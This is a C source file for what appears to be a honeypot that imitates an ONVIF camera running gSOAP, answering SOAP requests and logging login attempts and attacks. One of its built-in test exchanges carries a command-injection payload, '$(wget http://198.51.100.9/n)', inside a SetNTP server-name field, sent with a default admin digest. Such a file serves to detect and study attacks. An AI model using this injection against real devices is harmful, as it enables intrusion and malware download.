/*
 * ONVIF over HTTP, where the addresses of WS-Discovery lead: a camera on gSOAP that tells what it
 * is and where its stream is (RTSP), behind WS-UsernameToken.  Attackers guess that, add users,
 * reboot, and put commands into names of servers; what they do is recorded and acknowledged.
 */
#include "base/options.h"
#include "passive/services/onvif/onvif.h"

#define BODY_MAX (32u << 10)
#define INSIDE_MAX (40u << 10)

struct onvif {
	struct api api;
	uint64_t login_mark;
};

static const struct dialect onvif_dialect = {
	.server = "gSOAP/2.8",
	.reference = "gSOAP 2.8",
	.page_head = "HTTP/1.1 %{status} %{reason}\r\nServer: gSOAP/2.8\r\nContent-Type: %{type}\r\nContent-Length: %{length}\r\nConnection: close\r\n\r\n",
	.alive = "",
	.dying = "",
	.statuses = (const struct dialect_status[]){{0}},
};

#define ENVELOPE                                                                                                       \
	"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<SOAP-ENV:Envelope "                                              \
	"xmlns:SOAP-ENV=\"http://www.w3.org/2003/05/soap-envelope\" xmlns:SOAP-ENC=\"http://www.w3.org/2003/05/soap-encoding\" " \
	"xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xmlns:xsd=\"http://www.w3.org/2001/XMLSchema\" "      \
	"xmlns:tt=\"http://www.onvif.org/ver10/schema\" xmlns:tds=\"http://www.onvif.org/ver10/device/wsdl\" "         \
	"xmlns:trt=\"http://www.onvif.org/ver10/media/wsdl\" xmlns:tptz=\"http://www.onvif.org/ver20/ptz/wsdl\" "      \
	"xmlns:ter=\"http://www.onvif.org/ver10/error\"><SOAP-ENV:Body>"
#define END "</SOAP-ENV:Body></SOAP-ENV:Envelope>"

static void fault(struct api_call *c, unsigned status, const char *subcode, const char *words, struct bytes about, const char *rest)
{
	c->status = status;
	write_text(&c->out, ENVELOPE "<SOAP-ENV:Fault><SOAP-ENV:Code><SOAP-ENV:Value>SOAP-ENV:Sender</SOAP-ENV:Value>");
	if (subcode)
		write_fmt(&c->out, "<SOAP-ENV:Subcode><SOAP-ENV:Value>%s</SOAP-ENV:Value></SOAP-ENV:Subcode>", subcode);
	write_fmt(&c->out, "</SOAP-ENV:Code><SOAP-ENV:Reason><SOAP-ENV:Text xml:lang=\"en\">%s", words);
	soap_write_text(&c->out, (struct bytes){about.at, about.len < 64 ? about.len : 64});
	write_fmt(&c->out, "%s</SOAP-ENV:Text></SOAP-ENV:Reason></SOAP-ENV:Fault>" END, rest);
}

/* The prefix of an answer's element: of the space that the action belongs to. */
static const char *space_of(struct bytes action)
{
	static const char *const media[] = {"GetProfiles", "GetProfile", "GetVideoSources", "GetStreamUri", "GetSnapshotUri"};
	static const char *const move[] = {"ContinuousMove", "AbsoluteMove", "RelativeMove", "GotoHomePosition", "Stop"};
	for (size_t i = 0; i < sizeof media / sizeof *media; i++)
		if (bytes_equal_text(action, media[i]))
			return "trt";
	for (size_t i = 0; i < sizeof move / sizeof *move; i++)
		if (bytes_equal_text(action, move[i]))
			return "tptz";
	return "tds";
}

static void on_post(struct api_call *c)
{
	const struct onvif_device *d = session_device(c->session);
	struct onvif *o = c->state;
	struct bytes action = soap_action(c);
	uint8_t *room = arena_alloc(session_arena(c->session), INSIDE_MAX);
	struct writer w = writer_of(room, room ? INSIDE_MAX : 0);
	bool needs_login = true;
	if (!action.len) {
		c->raw = true; /* what is no envelope is not answered at all */
		return;
	}
	bool let_in = onvif_login(c, &o->login_mark), known = onvif_answer(c, d, action, &w, &needs_login);
	soap_tell(c, action, "onvif");
	if (!known) {
		fault(c, 400, "ter:ActionNotSupported", "Method '", action, "' not implemented: method name or namespace not recognized");
	} else if (needs_login && !d->open && !let_in) {
		fault(c, 400, "ter:NotAuthorized", "Sender not Authorized", (struct bytes){0}, "");
	} else {
		const char *prefix = space_of(action);
		write_fmt(&c->out, ENVELOPE "<%s:%.*sResponse>", prefix, (int)action.len, (const char *)action.at);
		write_span(&c->out, writer_bytes(&w));
		write_fmt(&c->out, "</%s:%.*sResponse>" END, prefix, (int)action.len, (const char *)action.at);
	}
}

static void onvif_http(struct api_call *c)
{
	struct bytes method = c->request->method;
	c->type = "application/soap+xml; charset=utf-8";
	c->close = true;
	if (bytes_equal_text(method, "POST"))
		on_post(c);
	else if (bytes_equal_text(method, "HEAD") || bytes_equal_text(method, "OPTIONS"))
		c->type = "text/xml; charset=utf-8";
	else
		fault(c, 405, NULL, "HTTP ", method, " method not implemented");
}

static const struct api_style onvif_style = {
	.dialect = &onvif_dialect,
	.body_max = BODY_MAX,
	.answer = onvif_http,
	.bad_request = "",
};

static enum service_next onvif_input(struct session *s, void *state, struct reader *in)
{
	return api_input(s, &((struct onvif *)state)->api, in, &onvif_style, state);
}

static void onvif_close(struct session *s, void *state)
{
	api_close(s, &((struct onvif *)state)->api);
}

/* clang-format off */
#define HEAD(first, length) "HTTP/1.1 " first "\r\nServer: gSOAP/2.8\r\nContent-Type: application/soap+xml; charset=utf-8\r\nContent-Length: " length "\r\nConnection: close\r\n\r\n"
#define POST(length, text) "POST /onvif/device_service HTTP/1.1\r\nContent-Length: " length "\r\n\r\n" text
#define ASK(header, inside) "<s:Envelope><s:Header>" header "</s:Header><s:Body>" inside "</s:Body></s:Envelope>"
#define TOKEN "<Security><UsernameToken><Username>admin</Username><Password Type=\"#PasswordDigest\">y5gEO2hj0d17Cz+1UunPyNysEJg=</Password>" \
	"<Nonce>AAAAAAAAAAAAAAAAAAAAAA==</Nonce><Created>2015-04-01T00:00:00Z</Created></UsernameToken></Security>"
#define NOT_AUTHORIZED ENVELOPE "<SOAP-ENV:Fault><SOAP-ENV:Code><SOAP-ENV:Value>SOAP-ENV:Sender</SOAP-ENV:Value><SOAP-ENV:Subcode><SOAP-ENV:Value>" \
	"ter:NotAuthorized</SOAP-ENV:Value></SOAP-ENV:Subcode></SOAP-ENV:Code><SOAP-ENV:Reason><SOAP-ENV:Text xml:lang=\"en\">Sender not Authorized" \
	"</SOAP-ENV:Text></SOAP-ENV:Reason></SOAP-ENV:Fault>" END

static const struct exchange onvif_exchanges[] = {
	{"GET is not for it", BYTES("GET / HTTP/1.1\r\nHost: c\r\n\r\n"),
	 BYTES(HEAD("405 Method Not Allowed", "785") ENVELOPE "<SOAP-ENV:Fault><SOAP-ENV:Code><SOAP-ENV:Value>SOAP-ENV:Sender</SOAP-ENV:Value>"
	       "</SOAP-ENV:Code><SOAP-ENV:Reason><SOAP-ENV:Text xml:lang=\"en\">HTTP GET method not implemented</SOAP-ENV:Text></SOAP-ENV:Reason>"
	       "</SOAP-ENV:Fault>" END),
	 "{\"kind\":\"request.seen\",\"status\":405}"},
	{"a digest whose password is known, and a command for a shell",
	 BYTES(POST("390", ASK(TOKEN, "<tds:SetNTP><FromDHCP>false</FromDHCP><DNSname>$(wget http://198.51.100.9/n)</DNSname></tds:SetNTP>"))),
	 BYTES(HEAD("400 Bad Request", "862") NOT_AUTHORIZED),
	 "{\"kind\":\"login.tried\",\"login.user\":\"admin\",\"login.secret\":\"888888\",\"login.accepted\":false}\n"
	 "{\"kind\":\"command.sent\"}\n{\"kind\":\"request.seen\",\"http.injection\":\"$(wget http://198.51.100.9/n)</DNSname></tds:SetNTP></s:Body></s:Envelope>\"}\n"
	 "{\"kind\":\"file.captured\",\"file.url\":\"http://198.51.100.9/n\"}"},
	{"what is no envelope", BYTES("POST / HTTP/1.0\r\nContent-Length: 3\r\n\r\nabc"), BYTES(""), "{\"kind\":\"request.seen\",\"request.body\":\"abc\"}"},
	{0},
};
/* clang-format on */

#define TEXT(member, value, words)                                                                                     \
	{.name = #member, .type = OPTION_TEXT, .offset = offsetof(struct onvif_device, member), .fallback = value, .summary = words}

static const struct option onvif_device_options[] = {
	TEXT(maker, "H264", "what it calls its maker"),
	TEXT(model, "IPC-model", "its model"),
	TEXT(version, "V4.02.R12.00006531.10010.130500", "its firmware"),
	TEXT(hardware, "00001", "its hardware"),
	TEXT(scopes,
	     "onvif://www.onvif.org/type/video_encoder onvif://www.onvif.org/hardware/IPC-model onvif://www.onvif.org/name/IPC-model "
	     "onvif://www.onvif.org/Profile/Streaming",
	     "as wsdiscovery says them, a template"),
	TEXT(stream, "rtsp://%{address}:554/user=admin_password=tlJwpbo6_channel=1_stream=0.sdp?real_stream", "where its video is, a template"),
	TEXT(snapshot, "http://%{address}/webcapture.jpg?command=snap&channel=1", "where its picture is, a template"),
	TEXT(path, "/onvif/device_service", "of its device service, as wsdiscovery says it"),
	{.name = "channels", .type = OPTION_NUMBER, .offset = offsetof(struct onvif_device, channels), .fallback = "1", .min = 1, .max = 9,
	 .summary = "cameras behind it"},
	{.name = "open", .type = OPTION_BOOL, .offset = offsetof(struct onvif_device, open), .fallback = "false",
	 .summary = "whether everything is done without a log-in"},
	{0},
};

static const struct service onvif = {
	.name = "onvif",
	.summary = "camera that ONVIF clients look at and turn",
	.reference = "ONVIF Core and Media ver10, WSS UsernameToken 1.0; gSOAP 2.8",
	.transports = TRANSPORT_TCP,
	.ports = {8899},
	.state_size = sizeof(struct onvif),
	.input_max = API_INPUT_MAX,
	.output_max = 128u << 10,
	.arena_max = API_ARENA_MAX,
	.idle_ms_max = 30 * 1000,
	.session_ms_max = 300 * 1000,
	.device = onvif_device_options,
	.device_size = sizeof(struct onvif_device),
	.input = onvif_input,
	.close = onvif_close,
	.exchanges = onvif_exchanges,
};
SERVICE(onvif);
